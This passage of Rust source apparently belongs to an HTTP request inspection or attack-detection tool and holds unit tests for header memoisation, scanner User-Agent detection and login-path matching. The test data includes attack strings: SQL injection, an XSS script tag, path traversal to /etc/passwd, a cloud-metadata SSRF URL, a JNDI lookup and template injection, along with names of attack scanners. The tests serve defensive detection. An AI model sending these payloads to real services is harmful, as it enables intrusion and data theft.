                    }
                    expect_key = false;
                    i += 1;
                }
                b'"' => {
                    let Some(end) = json_string(text, i + 1, &mut sbuf) else {
                        // cut short inside a string (the inspection depth): what was read counts
                        if !expect_key {
                            value(keys.last().map_or("", |k| k.as_str()), &sbuf, out);
                        }
                        return true;
                    };
                    i = end;
                    if expect_key {
                        // keys are names: at most 64 characters kept as the part's name
                        let lowered;
                        let k: &str = if sbuf.bytes().any(|c| c.is_ascii_uppercase() || !c.is_ascii()) {
                            lowered = sbuf.to_lowercase();
                            &lowered
                        } else {
                            &sbuf
                        };
                        if k.starts_with('$') {
                            out.push(("body-key".into(), format!("{{\"{}\":", cut(k, 64))));
                        } else if k.contains(['[', '(', '<', '\'', '"', ';', '|', '`']) {
                            out.push(("body-name".into(), normalize(k)));
                        }
                        if let Some(cur) = keys.last_mut() {
                            // the key's buffer reused from one key to the next
                            cur.clear();
                            cur.push_str(cut(k, 64));
                        }
                        expect_key = false;
                    } else {
                        value(keys.last().map_or("", |k| k.as_str()), &sbuf, out);
                    }
                }
                // numbers, true, false, null
                c if c == b'-' || c.is_ascii_alphanumeric() || c == b'.' || c == b'+' => i += 1,
                _ => return false,
            }
        }
        true
    }
}

#[cfg(test)]
mod form_check_tests {
    use super::*;

    #[test]
    fn form_check_without_a_copy_is_the_lowercased_contains() {
        let n = "x-www-form-urlencoded";
        let cts = [
            "application/x-www-form-urlencoded",
            "Application/X-WWW-Form-Urlencoded; charset=UTF-8",
            "application/x-www-form-urlencode",
            "x-www-form-urlencoded",
            "",
            "x",
            "application/json",
            "multipart/form-data; x-www-form-urlencoded",
            "\u{130}x-www-form-urlencoded",
            "X-WWW-FORM-URLENCODE\u{17f}",
            "application/x\u{2010}www-form-urlencoded",
        ];
        for ct in cts {
            assert_eq!(
                contains_ignore_ascii_case(ct.as_bytes(), n.as_bytes()),
                ct.to_ascii_lowercase().contains(n),
                "{ct:?}"
            );
        }
        assert!(contains_ignore_ascii_case(b"abc", b""));
    }
}

#[cfg(test)]
mod dropped_memo_tests {
    use super::*;
    use crate::http::{Message, Transaction};

    fn get(headers: &[(&str, &str)]) -> Transaction {
        let h: Vec<(String, String)> = headers.iter().map(|(a, b)| (a.to_string(), b.to_string())).collect();
        Transaction {
            request: Some(Message {
                method: "GET".into(),
                uri: "/api/v1/items/1".into(),
                headers: h.into(),
                ..Default::default()
            }),
            ..Default::default()
        }
    }

    /// The inputs of a request with the memo of left-out values cleared: judged the slow way.
    fn judged_afresh(tx: &Transaction) -> Vec<(Part, String)> {
        dropped::clear();
        own(&Inputs::of(tx))
    }

    fn own(i: &Inputs) -> Vec<(Part, String)> {
        i.parts.iter().map(|(a, v)| (a.clone(), v.to_string())).collect()
    }

    #[test]
    fn left_out_header_values_remembered_give_the_inputs_judged_afresh() {
        let mut values: Vec<String> = [
            "shop-client/2.0",
            "application/json",
            "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0",
            "' or 1=1--",
            "<script>alert(1)</script>",
            "../../etc/passwd",
            "union select",
            "UNION%20SELECT",
            "%27%20or%201%3D1",
            "http://169.254.169.254/latest",
            "text/html,application/xhtml+xml",
            "en-US,en;q=0.9",
            "ab",
            "",
            " ",
            "caf\u{e9} cr\u{e8}me",
            "\u{130}NION SELECT",
            "${jndi:ldap://x.example/a}",
            "{{7*7}}",
            "no-cache",
        ]
        .iter()
        .map(|s| s.to_string())
        .collect();
        // more values than slots (every slot taken and replaced), and past the longest kept
        for i in 0..600 {
            values.push(format!("client-{i}/1.{}", i % 7));
        }
        values.push("x".repeat(127));
        values.push(format!("{}' or 1=1--", "a".repeat(140)));
        values.push("a".repeat(129));
        let names = [
            "User-Agent",
            "accept",
            "Content-Type",
            "Referer",
            "X-Custom",
            "ACCEPT-LANGUAGE",
            "origin",
        ];
        let mut expected = Vec::new();
        for v in &values {
            for n in names {
                let tx = get(&[("Host", "api.example"), (n, v), ("Accept", v)]);
                expected.push(judged_afresh(&tx));
            }
        }
        // twice over, the memo filling and its slots replaced: each request's inputs as judged
        // afresh
        dropped::clear();
        for round in 0..2 {
            let mut k = 0;
            for v in &values {
                for n in names {
                    let tx = get(&[("Host", "api.example"), (n, v), ("Accept", v)]);
                    assert_eq!(own(&Inputs::of(&tx)), expected[k], "round {round} {n}: {v:?}");
                    k += 1;
                }
            }
        }
        // the memo answers: a common value left out is remembered, a payload is not
        let _ = Inputs::of(&get(&[("Accept", "application/json"), ("User-Agent", "' or 1=1--")]));
        assert!(dropped::seen("application/json").is_some());
        assert!(dropped::seen("' or 1=1--").is_none());
    }

    /// The scanner verdict taken from the memo of left-out values is the one the first
    /// User-Agent line gives looked up afresh: tools and clients, in any case, a second UA line
    /// naming another tool, UA lines after other headers, values first seen as another
    /// header's, empty ones, and more values than the memo has slots.
    #[test]
    fn the_remembered_scanner_verdict_is_the_first_user_agents() {
        let mut uas: Vec<String> = [
            "sqlmap/1.7.2#stable (https://sqlmap.org)",
            "shop-client/2.0",
            "Mozilla/5.0 (compatible; Nuclei - Open-source project)",
            "NIKTO/2.5",
            "curl/8.4.0",
            "gobuster/3.6",
            "",
            "application/json",
            "Fuzz Faster U Fool v2.1.0",
        ]
        .iter()
        .map(|s| s.to_string())
        .collect();
        for i in 0..300 {
            uas.push(format!("client-{i}/1.{}", i % 5));
        }
        let verdict = |tx: &Transaction| {
            classify(tx, &Inputs::of(tx), &Default::default())
                .evidence(Detector::ScannerUa)
                .map(|(_, e)| e.to_string())
        };
        // the verdict without either memo: the first User-Agent's tool
        fn afresh(tx: &Transaction) -> Option<String> {
            let ua = tx.request.as_ref()?.header("user-agent")?;
            TOOL_SET.matches(ua).iter().next().map(|i| TOOLS[i].1.to_string())
        }
        let shapes = |a: &str, b: &str| {
            vec![
                get(&[("Host", "h"), ("User-Agent", a), ("Accept", b)]),
                get(&[("Accept", a), ("user-agent", b)]),
                get(&[("USER-AGENT", a), ("User-Agent", b)]),
                get(&[("X-Custom", a), ("Accept", b), ("User-Agent", a)]),
            ]
        };
        // (verdicts handed over by the memo: its own way must be taken)
        let mut remembered = 0;
        for round in 0..3 {
            if round == 0 {
                dropped::clear();
            }
            for (i, a) in uas.iter().enumerate() {
                let b = &uas[(i * 7 + round) % uas.len()];
                for tx in shapes(a, b) {
                    let want = afresh(&tx);
                    // the memo filled by earlier requests, then by this one
                    for _ in 0..2 {
                        remembered += usize::from(Inputs::of(&tx).ua_tool.is_some());
                        assert_eq!(verdict(&tx), want, "round {round}: {a:?} {b:?}");
                    }
                }
            }
        }
        assert!(remembered > 500, "only {remembered} verdicts came from the memo");
    }
}

#[cfg(test)]
mod login_path_tests {
    use super::*;

    /// The check as it was: the last segment lowercased into a new string, cut at `.` or `;`.
    fn by_copy(path: &str) -> bool {
        let last = path
            .trim_end_matches('/')
            .rsplit('/')
            .next()
            .unwrap_or("")
            .to_ascii_lowercase();
        let last = last.split(['.', ';']).next().unwrap_or("");
        matches!(
            last,
            "login"
                | "signin"
                | "sign-in"
                | "sign_in"
                | "logon"
                | "token"
                | "session"
                | "sessions"
                | "auth"
                | "authenticate"
                | "oauth2"
                | "j_security_check"
        )
    }

    #[test]
    fn login_path_on_the_stack_is_the_lowercased_copy() {
        let mut paths: Vec<String> = Vec::new();
        for name in [
            "login",
            "LogIn",
            "signin",
            "sign-in",
            "SIGN_IN",
            "logon",
            "token",
            "session",
            "sessions",
            "auth",
            "authenticate",
            "oauth2",
            "j_security_check",
            "J_SECURITY_CHECKX",
            "login-history",
            "logi",
            "",
            "\u{130}login",
            "log\u{e9}n",
            "authenticatee",
        ] {
            for suffix in ["", "/", "//", ".json", ";jsessionid=1", ".", ";", ".x;y"] {
                for prefix in ["", "/", "/api/v1/", "/a.b/", "x"] {
                    paths.push(format!("{prefix}{name}{suffix}"));
                }
            }
        }
        paths.push("/".repeat(5));
        paths.push(format!("/api/{}", "a".repeat(40)));
        for p in &paths {
            assert_eq!(is_login_path(p), by_copy(p), "{p:?}");
        }
    }
}

#[cfg(test)]
mod sensitive_evidence_tests {
    use super::*;

    #[test]
    fn sensitive_evidence_texts_are_the_joined_kinds() {
        let all = Sensitive::ALL;
        for m in 0..1u32 << all.len() {
            let set: std::collections::BTreeSet<Sensitive> =
                (0..all.len()).filter(|i| m & 1 << i != 0).map(|i| all[i]).collect();
            let joined = sensitive_evidence_joined(&set);
            assert_eq!(
                sensitive_evidence(&set).as_deref(),
                (!joined.is_empty()).then_some(joined.as_str()),
                "{set:?}"
            );
        }
    }
}
